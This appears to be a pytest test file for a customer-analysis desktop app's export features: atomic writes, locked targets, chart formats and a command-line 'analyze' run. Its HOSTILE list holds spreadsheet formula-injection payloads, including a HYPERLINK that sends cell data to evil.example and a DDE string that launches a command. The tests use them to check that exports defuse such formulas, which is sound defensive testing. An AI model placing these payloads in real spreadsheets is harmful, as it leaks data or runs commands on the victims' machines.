"""Exports are safe: no live formulas, atomic writes, the input never overwritten, locked
targets explained; CSV with BOM; charts as PNG/SVG/PDF; the persona report; ``analyze``."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from conftest import ROOT
from hypothesis import given, settings
from hypothesis import strategies as st

from persona_desktop.core.io import safe_write

from persona_desktop.core.export import xlsx
from persona_desktop.core.errors import DataError
from persona_desktop.core.export.files import save_figure, write_csv
from persona_desktop.core.progress import Cancelled, Progress
from persona_desktop.core.io.safe_write import FORMULA_STARTS, defuse_formula
from persona_desktop.core.export.sheet_text import sheet_title
from persona_desktop.core.export.xlsx import MAX_SHEET_ROWS, write_workbook

SAMPLE = ROOT / "resources" / "sample" / "online_retail_sample.csv"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=1+1"]


def customers_with_hostile_names() -> pd.DataFrame:
    return pd.DataFrame({"customer": [f"C{i}" for i in range(len(HOSTILE) + 2)],
                         "name": HOSTILE + ["张三", "-2.5"],
                         "spend": [1.5, -2.0, 3.0, np.nan, 5.0, 6.0, 7.0, 8.0, -9.25]})


# ----------------------------------------------------------- formula injection
def test_xlsx_hostile_names_are_text_and_read_back_exactly(tmp_path):
    path = write_workbook(tmp_path / "out.xlsx", {"Customers": customers_with_hostile_names()})
    ws = openpyxl.load_workbook(path)["Customers"]
    names = [ws.cell(row=r, column=2) for r in range(2, ws.max_row + 1)]
    assert all(c.data_type == "s" for c in names)
    assert all(c.quotePrefix for c in names[:len(HOSTILE)])  # stays text if edited in Excel
    with zipfile.ZipFile(path) as z:
        sheet = next(n for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
        assert "<f>" not in z.read(sheet).decode()
    # and the same plain text comes back ("\r" too: written as Excel writes it, _x000D_)
    from persona_desktop.core.io import load_table

    assert load_table(path).data["name"].tolist() == HOSTILE + ["张三", "-2.5"]


def test_control_characters_are_kept_not_a_crash(tmp_path):
    names = ["nul\x00here", "bell\x07", "form\x0cfeed", "line\nbreak", "tab\tin"]
    path = write_workbook(tmp_path / "ctl.xlsx", {"a": pd.DataFrame({"name": names, "n": range(5)})})
    from persona_desktop.core.io import load_table

    assert load_table(path).data["name"].tolist() == names


def test_csv_defuses_formulas_and_keeps_numbers(tmp_path):
    path = write_csv(tmp_path / "out.csv", customers_with_hostile_names())
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the file as UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    names = [r[1] for r in rows[1:]]
    assert names[:len(HOSTILE)] == ["'" + h for h in HOSTILE]
    assert names[-2:] == ["张三", "-2.5"]  # a negative number is a value, not a formula
    assert [r[2] for r in rows[1:]][:2] == ["1.5", "-2.0"]


@given(st.text(max_size=40))
@settings(max_examples=300, deadline=None)
def test_defused_text_never_starts_like_a_formula(text):
    out = defuse_formula(text)
    if out.startswith(FORMULA_STARTS):
        float(out)  # only a plain number may start with + or -
        assert out[0] in "+-"
    assert out == text or out == "'" + text


@given(st.text(min_size=0, max_size=60), st.lists(st.text(max_size=40), max_size=5))
@settings(max_examples=300, deadline=None)
def test_sheet_titles_are_always_valid_and_unique(name, others):
    taken: set[str] = set()
    titles = [sheet_title(n, taken) for n in [*others, name, name]]
    for t in titles:
        assert 1 <= len(t) <= 31
        assert not re.search(r"[\[\]:*?/\\]", t)
        assert not t.startswith("'") and not t.endswith("'")
    assert len({t.lower() for t in titles}) == len(titles)


# ----------------------------------------------------------- atomic, never over the input
def test_a_failed_write_leaves_the_previous_file_and_no_temporary(tmp_path, monkeypatch):
    target = tmp_path / "out.xlsx"
    target.write_bytes(b"previous")
    from openpyxl.workbook import workbook

    def broken_save(self, filename):
        Path(filename).write_bytes(b"half a workb")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(workbook.Workbook, "save", broken_save)
    with pytest.raises(DataError) as err:
        write_workbook(target, {"a": pd.DataFrame({"x": [1]})})
    assert err.value.code == "export.write_failed" and "No space left" in err.value.text("en")
    assert target.read_bytes() == b"previous"
    assert list(tmp_path.iterdir()) == [target]


def test_cancel_before_the_rename_leaves_the_previous_file(tmp_path):
    target = tmp_path / "out.xlsx"
    target.write_bytes(b"previous")
    progress = Progress(lambda *_: None)
    progress.cancel()
    with pytest.raises(Cancelled):
        write_workbook(target, {"a": pd.DataFrame({"x": range(10)})}, progress=progress)
    assert target.read_bytes() == b"previous" and list(tmp_path.iterdir()) == [target]


def test_cancel_in_the_middle_leaves_nothing_behind(tmp_path):
    """Cancelled after the first of three sheets: the old file stays, and neither our temporary
    file nor openpyxl's per-sheet temporary files are left anywhere."""
    import tempfile

    def leftovers() -> set[str]:
        return {p.name for p in Path(tempfile.gettempdir()).glob("openpyxl.*")}

    before = leftovers()
    target = tmp_path / "out.xlsx"
    target.write_bytes(b"previous")
    progress = Progress(lambda fraction, message: progress.cancel() if fraction > 0.1 else None, min_interval=0)
    frames = {f"s{i}": pd.DataFrame({"x": range(3000)}) for i in range(3)}
    with pytest.raises(Cancelled):
        write_workbook(target, frames, progress=progress)
    assert target.read_bytes() == b"previous" and list(tmp_path.iterdir()) == [target]
    assert leftovers() <= before


def test_the_input_file_is_never_the_output(tmp_path):
    source = tmp_path / "shop.xlsx"
    write_workbook(source, {"a": pd.DataFrame({"x": [1]})})
    before = source.read_bytes()
    for writer in (lambda: write_workbook(source, {"a": pd.DataFrame({"x": [2]})}, source=source),
                   lambda: write_csv(source, pd.DataFrame({"x": [2]}), source=source)):
        with pytest.raises(DataError) as err:
            writer()
        assert err.value.code == "export.same_as_input"
    assert source.read_bytes() == before


def test_a_locked_target_gets_a_message_and_another_name(tmp_path, monkeypatch):
    target = tmp_path / "report.xlsx"
    target.write_bytes(b"open in Excel")
    (tmp_path / "report (2).xlsx").write_bytes(b"taken")

    def locked(src, dst):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(safe_write.os, "replace", locked)
    with pytest.raises(DataError) as err:
        write_workbook(target, {"a": pd.DataFrame({"x": [1]})})
    assert err.value.code == "export.locked"
    assert "report (3).xlsx" in err.value.text("en") and "report (3).xlsx" in err.value.text("zh")
    assert target.read_bytes() == b"open in Excel"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report (2).xlsx", "report.xlsx"]


def test_a_missing_folder_is_a_message(tmp_path):
    with pytest.raises(DataError) as err:
        write_csv(tmp_path / "nope" / "out.csv", pd.DataFrame({"x": [1]}))
    assert err.value.code == "export.folder"


def test_more_rows_than_a_sheet_holds_continue_on_more_sheets(tmp_path, monkeypatch):
    monkeypatch.setattr(xlsx, "MAX_SHEET_ROWS", 10)
    frame = pd.DataFrame({"n": range(25)})
    wb = openpyxl.load_workbook(write_workbook(tmp_path / "big.xlsx", {"客户": frame}))
    assert wb.sheetnames == ["客户", "客户 (2)", "客户 (3)"]
    got = [c.value for name in wb.sheetnames for (c,) in wb[name].iter_rows(min_row=2)]
    assert got == list(range(25))
    assert all(wb[n]["A1"].value == "n" for n in wb.sheetnames)
    assert MAX_SHEET_ROWS == 1_048_575


# ----------------------------------------------------------- charts
@pytest.mark.parametrize("suffix, magic", [(".png", b"\x89PNG"), (".svg", b"<?xml"), (".pdf", b"%PDF")])
def test_chart_export(tmp_path, suffix, magic):
    from persona_desktop.core.charts import new_figure

    fig = new_figure()
    ax = fig.add_subplot(111)
    ax.bar(["高消费常客", "Lapsed"], [3, 1])
    ax.set_title("客户占比")
    path = save_figure(fig, tmp_path / f"chart{suffix}")
    assert path.read_bytes().startswith(magic)
    if suffix == ".svg":  # text drawn as paths: the Chinese shows without the font installed
        assert "<text" not in path.read_text(encoding="utf-8")


def test_chart_export_refuses_an_unknown_format(tmp_path):
    from persona_desktop.core.charts import new_figure

    with pytest.raises(DataError) as err:
        save_figure(new_figure(), tmp_path / "chart.bmp")
    assert err.value.code == "export.figure_format" and not list(tmp_path.iterdir())


# ----------------------------------------------------------- report and analyze
def pdf_pages(path: Path) -> int:
    return len(re.findall(rb"/Type\s*/Page(?!s)", path.read_bytes()))


def run_cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "persona_desktop", *args], capture_output=True, text=True,
                          cwd=ROOT, check=False, env={**os.environ, "PYTHONIOENCODING": "utf-8"})


@pytest.fixture(scope="module")
def analyzed(tmp_path_factory):
    folder = tmp_path_factory.mktemp("analyze")
    start = time.perf_counter()
    result = run_cli("analyze", str(SAMPLE), "--out", str(folder / "客户分析.xlsx"), "--report",
                     str(folder / "画像.pdf"), "--json", "--lang", "zh")
    result.wall_seconds = time.perf_counter() - start
    return folder, result


def test_analyze_writes_the_workbook_and_the_report(analyzed):
    folder, result = analyzed
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""
    doc = json.loads(result.stdout)
    assert [s["step"] for s in doc["steps"]] == ["read", "value", "segments", "rules", "churn", "workbook", "report"]
    # each step's time is its own: every step that ran took some, and together no more than the whole run
    seconds = {s["step"]: s["seconds"] for s in doc["steps"]}
    assert min(seconds.values()) >= 0 and sum(seconds.values()) <= result.wall_seconds
    assert seconds["read"] > 0 and seconds["segments"] > 0
    segments = next(s for s in doc["steps"] if s["step"] == "segments")
    assert segments["segments"] >= 2 and doc["customers"] == 397  # 400 ids, 3 bought nothing
    wb = openpyxl.load_workbook(folder / "客户分析.xlsx")
    assert wb.sheetnames[:3] == ["概要", "客户画像", "客户"]
    assert pdf_pages(folder / "画像.pdf") == segments["segments"] + 1


def test_analyze_a_file_that_cannot_be_read_writes_nothing(tmp_path):
    bad = tmp_path / "broken.xlsx"
    bad.write_bytes(b"PK\x03\x04 not really a workbook")
    result = run_cli("analyze", str(bad), "--out", str(tmp_path / "out.xlsx"), "--lang", "en")
    assert result.returncode == 3 and "Traceback" not in result.stderr
    assert "broken.xlsx" in result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["broken.xlsx"]


def test_analyze_a_basket_file_skips_what_does_not_apply(datasets, tmp_path):
    result = run_cli("analyze", str(datasets / "04_groceries" / "groceries.csv"), "--out", str(tmp_path / "g.xlsx"),
                     "--json", "--lang", "en")
    assert result.returncode == 0, result.stderr
    steps = {s["step"]: s for s in json.loads(result.stdout)["steps"]}
    assert "skipped" in steps["segments"] and "skipped" in steps["churn"]
    assert steps["rules"]["rules"] > 0
    assert openpyxl.load_workbook(tmp_path / "g.xlsx").sheetnames == ["Summary", "Rules"]


def test_analyze_refuses_to_write_over_its_input(tmp_path):
    source = tmp_path / "shop.csv"
    shutil.copy(SAMPLE, source)
    before = source.read_bytes()
    result = run_cli("analyze", str(source), "--out", str(source), "--lang", "en")
    assert result.returncode == 3 and "choose another name" in result.stderr
    assert source.read_bytes() == before


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed (apt install libreoffice-calc)")
def test_libreoffice_opens_the_workbook_and_prints_every_sheet(analyzed, tmp_path):
    folder, _ = analyzed
    book = folder / "客户分析.xlsx"
    result = subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to",
                             "pdf", "--outdir", str(tmp_path), str(book)], capture_output=True, text=True, timeout=180,
                            check=False)
    pdf = tmp_path / "客户分析.pdf"
    assert pdf.exists(), result.stderr
    assert pdf_pages(pdf) >= len(openpyxl.load_workbook(book).sheetnames)


def test_an_export_failing_at_its_last_part_changes_no_file(tmp_path, monkeypatch):
    """The workbook and the CSV are done when the report fails (a full disk): the folder is as before."""
    from persona_desktop.core.export import bundle
    from persona_desktop.core.workflow import run_analysis
    from persona_desktop.core.export.bundle import ExportChoice, export_results
    from persona_desktop.core.paths import sample_path

    analysis = run_analysis(sample_path(), lang="en")
    old = tmp_path / "shop.xlsx"
    old.write_bytes(b"last month's workbook")
    before = sorted(p.name for p in tmp_path.iterdir())

    def full_disk(*args, **kwargs):
        raise DataError("export.write_failed", file="shop_report.pdf", reason="No space left on device")

    monkeypatch.setattr(bundle, "write_persona_report", full_disk)
    with pytest.raises(DataError):
        export_results(analysis, ExportChoice(str(tmp_path), "shop", lang="en"))
    assert sorted(p.name for p in tmp_path.iterdir()) == before  # no CSV, no charts folder, no .part
    assert old.read_bytes() == b"last month's workbook"
    monkeypatch.undo()
    written = export_results(analysis, ExportChoice(str(tmp_path), "shop", lang="en"))
    assert old.read_bytes() != b"last month's workbook" and len(written) >= 4
